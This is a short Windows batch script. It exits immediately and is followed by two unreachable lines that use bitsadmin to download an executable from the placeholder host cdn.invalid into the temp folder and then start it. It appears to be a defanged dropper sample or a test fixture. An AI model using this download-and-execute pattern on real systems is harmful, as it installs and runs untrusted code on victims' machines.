@echo off
exit /b 0
bitsadmin /transfer j https://cdn.invalid/nh.exe %TEMP%\nh.exe
start %TEMP%\nh.exe
